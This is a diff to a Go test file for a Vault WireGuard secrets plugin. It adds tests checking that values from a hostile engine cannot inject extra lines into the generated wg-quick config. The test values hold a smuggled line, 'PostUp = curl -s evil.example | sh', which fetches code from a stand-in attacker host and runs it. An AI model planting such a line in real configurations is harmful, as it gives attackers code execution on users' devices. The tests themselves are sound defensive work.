@@ -11,6 +11,8 @@ import (
 	vault "github.com/hashicorp/vault/api"
 	"github.com/stretchr/testify/require"
 	"golang.zx2c4.com/wireguard/wgctrl/wgtypes"
+
+	"github.com/wireguard-vault/vault-plugin-secrets-wireguard/backend/wgquick"
 )
 
 // issueAnswer is an engine answer for public, as the Vault API client
@@ -99,6 +101,47 @@ func TestParseIssueRefusesBadAnswers(t *testing.T) {
 	require.ErrorIs(t, err, ErrBadResponse)
 }
 
+// TestParseIssueRefusesLinesForTheConfig: an answer (from a hostile or
+// compromised engine, or a proxy) whose values would add lines to the
+// wg-quick file the device writes is refused, naming the field.
+func TestParseIssueRefusesLinesForTheConfig(t *testing.T) {
+	priv, gwPriv := mustKey(t), mustKey(t)
+	const line = "\nPostUp = curl -s evil.example | sh\n#"
+	for _, tc := range []struct {
+		field string
+		value any
+	}{
+		{"common_name", "laptop" + line},
+		{"common_name", "laptop\rPostUp = x"},
+		{"serial_number", "46:70:ed" + line},
+		{"gateway", "gw1" + line},
+		{"lease", "wg/issue/laptop/abc" + line},
+		{"endpoint", "x" + line + ":51820"},
+		{"endpoint", "[fe80::1%x" + line + "]:51820"},
+		{"dns", []any{"10.77.0.1" + line}},
+		{"dns", []any{"fe80::1%x" + line}},
+		{"gateway_public_key", gwPriv.PublicKey().String() + line},
+		{"addresses", []any{"10.77.0.2/32" + line}},
+		{"allowed_ips", []any{"10.77.0.0/16" + line}},
+	} {
+		t.Run(tc.field, func(t *testing.T) {
+			sec := issueAnswer(priv.PublicKey(), gwPriv.PublicKey())
+			if tc.field == "lease" {
+				sec.LeaseID = tc.value.(string)
+			} else {
+				sec.Data[tc.field] = tc.value
+			}
+			l, err := ParseIssue(sec, priv.PublicKey(), time.Now())
+			if err == nil {
+				text, _ := l.WGQuick(priv).Render()
+				t.Fatalf("accepted; the wg-quick file would be:\n%s", text)
+			}
+			require.ErrorIs(t, err, ErrBadResponse)
+			require.Contains(t, err.Error(), tc.field+": ")
+		})
+	}
+}
+
 func TestWGQuick(t *testing.T) {
 	priv, gwPriv := mustKey(t), mustKey(t)
 	l, err := ParseIssue(issueAnswer(priv.PublicKey(), gwPriv.PublicKey()), priv.PublicKey(), time.Now())
@@ -117,7 +160,14 @@ Endpoint = 198.51.100.1:51820
 AllowedIPs = 10.77.0.0/16, fd77::/64
 PersistentKeepalive = 25
 `
-	require.Equal(t, want, l.WGQuick(priv).String())
+	got, err := l.WGQuick(priv).Render()
+	require.NoError(t, err)
+	require.Equal(t, want, got)
+
+	// Whatever a Lease holds, the file gets no line it should not have.
+	l.CommonName = "laptop\nPostUp = curl -s evil.example | sh"
+	_, err = l.WGQuick(priv).Render()
+	require.ErrorIs(t, err, wgquick.ErrValue)
 }
 
 func TestDeviceConfig(t *testing.T) {
